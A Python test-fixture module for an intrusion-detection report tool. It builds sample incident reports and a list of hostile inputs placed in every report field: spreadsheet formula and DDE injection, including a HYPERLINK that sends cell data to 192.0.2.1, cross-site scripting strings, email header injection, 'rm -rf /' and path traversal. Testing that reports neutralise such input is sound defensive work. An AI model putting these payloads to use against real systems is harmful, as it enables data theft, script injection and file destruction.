"""Evidence for the tests of the reports: the sample incident, and what attackers would like to see in a report."""

import asyncio
from datetime import UTC
from functools import cache
from pathlib import Path
from typing import Any, Final

import msgspec

from tests.engine.incident import LOGS, SAMPLES
from tests.ui.alerts import a_packet, a_sighting, an_alert
from tests.ui.desk import NETWORK
from tests.ui.hostile import HOSTILE
from wallwatch.cli.whole import Files, Whole, read_whole
from wallwatch.engine.kin import Held
from wallwatch.evidence.actor import Hypothesis
from wallwatch.evidence.entries import Entry
from wallwatch.model import Signature, Stack
from wallwatch.model.times import from_datetime, to_datetime
from wallwatch.reports.gather import About, from_alerts
from wallwatch.reports.report import Part, Report
from wallwatch.reports.suspicion import Suspicion
from wallwatch.text import visible

SECOND = 1_000_000
MADE: Final = from_datetime(to_datetime(1_015_110_000 * SECOND))
"""2 March 2002, 23:00 UTC."""

PAYLOADS: Final = (
    '=HYPERLINK("http://192.0.2.1/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)",
    "|calc", "%0A=1+1", "  =1+1", "\uff1d1+1", '","=1+1', "'=1+1", '"\r\n=1+1',
    "<script>alert(1)</script>", "</title><script>alert(1)</script>", "</pre></style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>", '" onmouseover="alert(1)', "<!--", "]]>", "&lt;b&gt;",
    "<svg/onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>", "<base href=//192.0.2.1/>",
    "[click](http://192.0.2.1/)", "![x](http://192.0.2.1/x.png)", "<http://192.0.2.1/>",
    "http://192.0.2.1/ www.example.com",
    "`](http://192.0.2.1/)`", "``` \n# heading", "````", "` `` ``` ````", "\n\n[x]: http://192.0.2.1/\n\n[x]",
    "| a | b |",
    "attacker@example.com", "~~~", "\n~!rm -rf /", "~!rm -rf /", "From me", ".",
    "\r\nBcc: victim@example.com\r\n\r\nbody",
    "x\nTo: victim@example.com", "%0d%0aBcc:victim@example.com", "=?utf-8?q?x?=", "../../etc/passwd", "a\x00b",
    *HOSTILE,
)  # fmt: skip
"""What somebody may write into a log line, a signature, a host name, a whois answer."""


@cache
def _whole() -> Any:
    return asyncio.run(read_whole(Files([str(SAMPLES / log) for log in LOGS], UTC)))


def incident(**fields: Any) -> Report:
    """Return the report of the sample incident, of which the network is known; ``fields`` replace its own."""
    whole = _whole()
    about = About(name="gnutella", note="Could be the same guy on two addresses.", made=MADE, network=lambda _: NETWORK)
    found = from_alerts(tuple(whole.alerts.values()), held(whole), about)
    return msgspec.structs.replace(found, **fields)


def of(*paths: Path, **fields: Any) -> Report:
    """Return the report of what log files say."""
    whole = asyncio.run(read_whole(Files(list(map(str, paths)), UTC)))
    return from_alerts(tuple(whole.alerts.values()), held(whole), About(made=MADE, **fields))


def held(whole: Whole) -> Held:
    """Return the alerts of log files as what other alerts are held against."""
    return Held(tuple(whole.alerts.values()), whole.packets)


def a_part(*raws: str, **fields: Any) -> Part:
    """Return an alert that was logged in these lines."""
    sightings = tuple(a_sighting(raw=raw, start=place) for place, raw in enumerate(raws))
    packets = (a_packet(sightings=sightings),) if raws else ()
    return Part(alert=an_alert(**{"lines": max(len(raws), 1)} | fields), packets=packets)


def a_report(*parts: Part, **fields: Any) -> Report:
    """Return a report of these parts."""
    return Report(**{"made": MADE, "parts": parts} | fields)


def hostile(payload: str) -> Report:
    """Return a report in which a payload stands wherever a stranger, or a person who copies, can put it."""
    text = visible(payload)
    sighting = a_sighting(raw="\n".join((text, f"a {text} b")), source=text, host=text, chain=text)
    alert = an_alert(
        signature=Signature(text), chain=text, rule=text, host=text, because=text, os=Stack(text), verdict="scanner",
        packets=2, lines=3, network=text, sources=(text,),
    )  # fmt: skip
    network = msgspec.structs.replace(
        NETWORK, name=text, organisation=text, country=text, kind=text, abuse=text, source=text
    )
    part = Part(alert=alert, packets=(a_packet(sightings=(sighting,)),), network=network, note=text)
    prior, entry = Entry("prior", 1 / 128, text), Entry("block", 3.0, text)
    found = Hypothesis(alert, alert, prior, (entry, Entry("gap", 1.0, text)), pool=1, rivals=1, unseen=2.0)
    pair = Suspicion(addresses=(alert.src, text), hypothesis=found, word=text, note=text, person=text)
    gone = Suspicion(addresses=(text, text), word="same", note=text)
    gap = Part(alert=an_alert(id=2, proto="gap", src=text, dst="", because=text))
    return a_report(part, gap, name=text, note=text, chosen=text, suspicions=(pair, gone), untold=2, unlooked=1)
